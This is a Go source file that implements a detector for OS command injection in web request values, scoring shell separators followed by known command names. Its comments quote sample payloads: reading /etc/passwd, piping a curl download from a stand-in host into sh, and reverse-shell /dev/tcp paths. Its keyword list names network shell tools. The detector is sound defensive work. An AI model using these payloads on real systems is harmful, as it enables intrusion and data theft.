package injection

import "strings"

// OS command injection (CWE-78).
//
// What it catches: a shell command appended to a value that a server passes
// to a shell: a separator (; | || & && newline) or a substitution ($(…),
// `…`) followed by a command name, such as "; cat /etc/passwd", "| id",
// "&& whoami", "$(curl http://x/s|sh)", "`sleep 5`"; the ${IFS} trick for
// spaces; reverse-shell plumbing (/dev/tcp/); and interpreter functions that
// run commands (system('id'), shell_exec(…)).
//
// How: at each separator the detector reads the next word the way a shell
// would (quotes and backslashes inside it dropped, so w'h'o'am'i is whoami;
// a path prefix such as /bin/ stripped; .exe dropped) and looks it up in a
// list of commands. Commands that are not English words (whoami, uname,
// wget, curl, powershell, nc, ls…) count more than those that are (cat, id,
// sleep, ping, type, more…).
//
// False-positive care: an English-word command needs evidence that it is a
// command: an option (-c), a path (/etc), a number for sleep/ping, a
// redirection or another separator, or the end of the value. So "Tom &
// Jerry", "Ingredients; cat food" and a markdown table "| id | name |" pass,
// while "; cat /etc/passwd" does not. Backticks preceded by a space are
// markdown inline code in prose ("run `ls -la`") and are a High-only hint.
//
// Tuning: disable "cmdi" on fields that hold shell snippets by design (a CI
// configuration API).
var cmdiDetector = detector{rule: ruleCmdI, contexts: valueContexts, detect: detectCmdI}

const cmdiTriggers = cSemi | cPipe | cAmp | cBacktick | cDollar | cCRLF | cLT | cGT | cParen

func detectCmdI(in *input, v *variant) hit {
	var best hit
	s := v.text
	if v.mask.any(cDollar) {
		if i := strings.Index(v.fold, "${ifs}"); i >= 0 {
			return hit{score: scoreStrong, start: i, end: i + 6, inFold: true, reason: "ifs"}
		}
		if i := strings.Index(v.fold, "$ifs"); i >= 0 && (i+4 == len(v.fold) || !isIdent(v.fold[i+4]) || isDigit(v.fold[i+4])) {
			return hit{score: scoreStrong, start: i, end: i + 4, inFold: true, reason: "ifs"}
		}
	}
	if v.mask.any(cSlash) {
		for _, dev := range []string{"/dev/tcp/", "/dev/udp/"} {
			if i := strings.Index(v.fold, dev); i >= 0 {
				return hit{score: scoreStrong, start: i, end: i + len(dev), inFold: true, reason: "reverse shell"}
			}
		}
	}
	if v.mask.any(cParen) {
		cmdiExecFunctions(v.fold, &best)
		if best.score >= scoreStrong {
			return best
		}
	}
	cmdiAt(in, s, 0, sepStart, &best)
	if !v.mask.any(cmdiTriggers) {
		return best
	}
	for i := 0; i < len(s) && best.score < scoreStrong; i++ {
		switch c := s[i]; c {
		case ';', '|', '&', '\n', '\r':
			j := i
			for j < len(s) && (s[j] == c || s[j] == '\n' || s[j] == '\r') {
				j++
			}
			kind := sepPlain
			switch c {
			case '|':
				kind = sepPipe
			case '\n', '\r':
				kind = sepNewline
			}
			cmdiAt(in, s, j, kind, &best)
			i = j - 1
		case '$':
			if i+1 < len(s) && s[i+1] == '(' && (i+2 >= len(s) || s[i+2] != '(') {
				cmdiAt(in, s, i+2, sepSubst, &best)
			}
		case '`':
			// A backtick glued to other text is shell substitution; after a
			// space, or at the start of multi-line text, it is markdown
			// inline code.
			kind := sepSubst
			if (i > 0 && (s[i-1] == ' ' || s[i-1] == '\n')) || (i == 0 && !newlineSeparates(in.ctx)) {
				kind = sepMarkdown
			}
			if strings.IndexByte(s[i+1:], '`') < 0 && kind == sepMarkdown {
				continue
			}
			cmdiAt(in, s, i+1, kind, &best)
		}
	}
	return best
}

// What precedes a candidate command.
type separator uint8

const (
	sepStart    separator = iota // the start of the value: no injection syntax
	sepPlain                     // ; & && ||
	sepNewline                   // a line break
	sepPipe                      // |
	sepSubst                     // $( or a backtick glued to other text
	sepMarkdown                  // a backtick after a space: inline code in prose
)

// Command tiers.
const (
	cmdAmbiguous = 1 // also an English word: needs argument evidence
	cmdDistinct  = 2 // a tool name prose does not use
)

var commands = map[string]uint8{
	// Not English words.
	"whoami": cmdDistinct, "uname": cmdDistinct, "wget": cmdDistinct, "curl": cmdDistinct,
	"ifconfig": cmdDistinct, "ipconfig": cmdDistinct, "nslookup": cmdDistinct, "netstat": cmdDistinct,
	"powershell": cmdDistinct, "pwsh": cmdDistinct, "bash": cmdDistinct, "zsh": cmdDistinct,
	"ksh": cmdDistinct, "csh": cmdDistinct, "tcsh": cmdDistinct, "sh": cmdDistinct, "nc": cmdDistinct,
	"ncat": cmdDistinct, "netcat": cmdDistinct, "telnet": cmdDistinct, "python": cmdDistinct,
	"python2": cmdDistinct, "python3": cmdDistinct, "perl": cmdDistinct, "ruby": cmdDistinct,
	"php": cmdDistinct, "systeminfo": cmdDistinct, "tasklist": cmdDistinct, "taskkill": cmdDistinct,
	"certutil": cmdDistinct, "bitsadmin": cmdDistinct, "mshta": cmdDistinct, "rundll32": cmdDistinct,
	"regsvr32": cmdDistinct, "wmic": cmdDistinct, "cmd": cmdDistinct, "busybox": cmdDistinct,
	"chmod": cmdDistinct, "chown": cmdDistinct, "mkfifo": cmdDistinct, "useradd": cmdDistinct,
	"xterm": cmdDistinct, "base64": cmdDistinct, "nmap": cmdDistinct, "socat": cmdDistinct,
	"sudo": cmdDistinct, "crontab": cmdDistinct, "printenv": cmdDistinct, "ls": cmdDistinct,
	"pwd": cmdDistinct, "rm": cmdDistinct, "mv": cmdDistinct, "grep": cmdDistinct, "egrep": cmdDistinct,
	"awk": cmdDistinct, "gawk": cmdDistinct, "sed": cmdDistinct, "nohup": cmdDistinct,
	"getent": cmdDistinct, "ssh": cmdDistinct, "scp": cmdDistinct, "tftp": cmdDistinct, "xxd": cmdDistinct,
	"mkdir": cmdDistinct, "rmdir": cmdDistinct, "expr": cmdDistinct, "openssl": cmdDistinct,
	"systemctl": cmdDistinct, "pkill": cmdDistinct, "killall": cmdDistinct, "unzip": cmdDistinct,
	"gzip": cmdDistinct, "xargs": cmdDistinct, "whereis": cmdDistinct, "lastlog": cmdDistinct,
	"uptime": cmdDistinct, "arp": cmdDistinct, "traceroute": cmdDistinct, "tracert": cmdDistinct,
	"nbtstat": cmdDistinct, "schtasks": cmdDistinct, "vssadmin": cmdDistinct, "icacls": cmdDistinct,
	"findstr": cmdDistinct, "cscript": cmdDistinct, "wscript": cmdDistinct, "msiexec": cmdDistinct,
	"lynx": cmdDistinct, "gcc": cmdDistinct, "chattr": cmdDistinct, "setsid": cmdDistinct,
	"hostname": cmdDistinct, "ps": cmdDistinct, "dir": cmdDistinct, "net": cmdAmbiguous,
	// English words, or too short to be sure.
	"id": cmdAmbiguous, "cat": cmdAmbiguous, "echo": cmdAmbiguous, "ping": cmdAmbiguous,
	"sleep": cmdAmbiguous, "type": cmdAmbiguous, "more": cmdAmbiguous, "less": cmdAmbiguous,
	"set": cmdAmbiguous, "env": cmdAmbiguous, "head": cmdAmbiguous, "tail": cmdAmbiguous,
	"find": cmdAmbiguous, "kill": cmdAmbiguous, "cp": cmdAmbiguous, "touch": cmdAmbiguous,
	"timeout": cmdAmbiguous, "start": cmdAmbiguous, "call": cmdAmbiguous, "copy": cmdAmbiguous,
	"del": cmdAmbiguous, "eval": cmdAmbiguous, "exec": cmdAmbiguous, "source": cmdAmbiguous,
	"dig": cmdAmbiguous, "host": cmdAmbiguous, "reboot": cmdAmbiguous, "shutdown": cmdAmbiguous,
	"tar": cmdAmbiguous, "od": cmdAmbiguous, "tee": cmdAmbiguous, "file": cmdAmbiguous,
	"which": cmdAmbiguous, "last": cmdAmbiguous, "history": cmdAmbiguous, "export": cmdAmbiguous,
	"df": cmdAmbiguous, "du": cmdAmbiguous, "free": cmdAmbiguous, "mount": cmdAmbiguous,
	"route": cmdAmbiguous, "reg": cmdAmbiguous, "ftp": cmdAmbiguous, "node": cmdAmbiguous,
	"java": cmdAmbiguous, "w": cmdAmbiguous, "nice": cmdAmbiguous, "wait": cmdAmbiguous,
	"true": cmdAmbiguous, "false": cmdAmbiguous,
}

// numericArgCommands take a number as their usual first argument.
var numericArgCommands = map[string]bool{"sleep": true, "ping": true, "timeout": true, "kill": true}

// maxCommandToken bounds the command word read after a separator.
const maxCommandToken = 48

// cmdiAt reads the command word at i (after a separator of the given kind)
// and offers a hit for it.
func cmdiAt(in *input, s string, i int, sep separator, best *hit) {
	i = skipSpace(s, i)
	for i < len(s) && (s[i] == '(' || s[i] == '{') {
		i = skipSpace(s, i+1)
	}
	var buf [maxCommandToken]byte
	n, end, pathPrefix, drive := 0, i, false, false
read:
	for end < len(s) && end-i < maxCommandToken*2 {
		c := s[end]
		switch {
		case c == '/' || (c == '\\' && drive):
			n, pathPrefix = 0, true // /bin/cat → cat, c:\windows\…\cmd.exe → cmd.exe
		case c == '\'' || c == '"' || c == '\\':
			// Shell quoting inside a word: w'h'o'am'i, c\at.
		case isIdent(c) || c == '.' || c == '-' || c == ':':
			drive = drive || c == ':'
			if n < maxCommandToken {
				buf[n] = toLower(c)
				n++
			}
		default:
			break read
		}
		end++
	}
	word := buf[:n]
	if len(word) > 4 && string(word[len(word)-4:]) == ".exe" {
		word = word[:len(word)-4]
	}
	tier := commands[string(word)]
	if tier == 0 {
		return
	}
	h := hit{start: i, end: end, reason: "command"}
	args := commandArgs(s, end, string(word))
	if pathPrefix && sep != sepStart && args == argsNone {
		args = argsReal
	}
	if sep == sepNewline && !newlineSeparates(in.ctx) {
		sep = sepMarkdown // multi-line text: a line starting with a command is prose or a snippet
	}
	switch sep {
	case sepStart:
		// The value is itself a command line: no injection syntax was used,
		// so even a real command with arguments is only likely.
		switch {
		case args == argsReal && (tier == cmdDistinct || commandOption(s, end)):
			h.score = scoreLikely
		case args == argsReal && in.high():
			h.score = scoreWeak
		}
	case sepMarkdown:
		if in.high() && args != argsNone {
			h.score = scoreWeak
		}
	case sepSubst:
		h.score = scoreStrong
	default:
		switch {
		case args != argsNone:
			h.score = scoreStrong
		case tier == cmdDistinct:
			h.score = scoreLikely
		case in.high():
			h.score = scoreWeak
		}
	}
	best.offer(h)
}

// newlineSeparates reports whether a line break in a value of this context
// is unusual enough to be a command separator. JSON strings, form fields,
// XML text and bodies hold multi-line prose and snippets; a query value,
// path, header or cookie does not.
func newlineSeparates(ctx Context) bool {
	switch ctx {
	case Query, Path, Header, Cookie, XMLAttr:
		return true
	}
	return false
}

// commandOption reports whether an option ("-c", "--help", "/c") follows
// the command word ending at i: an English word is not followed by one.
func commandOption(s string, i int) bool {
	j := skipSpace(s, i)
	return j > i && j+1 < len(s) && (s[j] == '-' || s[j] == '/') && isAlpha(s[j+1]) &&
		(j+2 == len(s) || s[j+2] == ' ')
}

// What follows a command word.
type commandArgsKind uint8

const (
	argsNone commandArgsKind = iota // a plain word: prose
	argsEnd                         // nothing: the end of the value
	argsReal                        // an option, path, redirection, URL…
)

// commandArgs classifies what follows a command word at i: the end of the
// value, something that looks like its arguments (an option, a path, a
// redirection, another separator, a substitution, a URL, or a number for
// commands that take one), or a plain word.
func commandArgs(s string, i int, word string) commandArgsKind {
	j := skipSpace(s, i)
	if j >= len(s) {
		return argsEnd
	}
	switch c := s[j]; {
	case c == '-' && j+1 < len(s) && (isAlpha(s[j+1]) || s[j+1] == '-'):
		return argsReal
	case c == '/' && j > i, c == '~', c == '\\':
		return argsReal
	case c == '.' && j+1 < len(s) && (s[j+1] == '/' || s[j+1] == '.'):
		return argsReal
	case c == ';', c == '&', c == '>', c == '<', c == '`', c == '$', c == '\n', c == '\r':
		return argsReal
	case c == '|' && j == i:
		return argsReal // "id|…" glued: a pipeline, not a table cell
	case isDigit(c):
		if numericArgCommands[word] || (j > i && looksLikeIP(s, j)) {
			return argsReal
		}
	case c == '%' && j > i:
		return argsReal // %COMSPEC%, %TEMP%
	case isAlpha(c) && j+1 < len(s) && s[j+1] == ':' && (j+2 == len(s) || s[j+2] == '\\' || s[j+2] == '/' || s[j+2] == ' '):
		return argsReal // a drive: "dir c:\"
	}
	if hasFoldAt(s, j, "http://") || hasFoldAt(s, j, "https://") || hasFoldAt(s, j, "ftp://") {
		return argsReal
	}
	return argsNone
}

// looksLikeIP reports whether s[i:] starts with digits and a dot.
func looksLikeIP(s string, i int) bool {
	j := i
	for j < len(s) && isDigit(s[j]) {
		j++
	}
	return j > i && j < len(s) && s[j] == '.'
}

// execFunctions are interpreter functions that run a shell command, by the
// name before their '(' (a method's last element: "os.system",
// "Runtime.getRuntime().exec").
var execFunctions = map[string]bool{"system": true, "exec": true, "shell_exec": true, "passthru": true,
	"popen": true, "proc_open": true, "pcntl_exec": true, "spawn": true, "execsync": true, "check_output": true,
	"call": true, "run": true}

// cmdiExecFunctions finds system('id')-style calls whose argument starts
// with a known command: strong.
func cmdiExecFunctions(s string, best *hit) {
	for p := strings.IndexByte(s, '('); p >= 0; {
		i := p - 1
		for i >= 0 && p-i < 32 && (isIdent(s[i])) {
			i--
		}
		if execFunctions[s[i+1:p]] {
			j := skipSpace(s, p+1)
			if j < len(s) && (s[j] == '\'' || s[j] == '"' || s[j] == '`' || s[j] == '[') {
				j = skipSpace(s, j+1)
				if j < len(s) && (s[j] == '\'' || s[j] == '"') {
					j++ // ['cat', …]
				}
			}
			e := j
			for e < len(s) && (isIdent(s[e]) || s[e] == '/' || s[e] == '.') {
				e++
			}
			word := s[j:e]
			if k := strings.LastIndexByte(word, '/'); k >= 0 {
				word = word[k+1:]
			}
			if commands[word] != 0 {
				best.offer(hit{score: scoreStrong, start: i + 1, end: e, inFold: true, reason: "exec function"})
				return
			}
		}
		next := strings.IndexByte(s[p+1:], '(')
		if next < 0 {
			return
		}
		p += 1 + next
	}
}
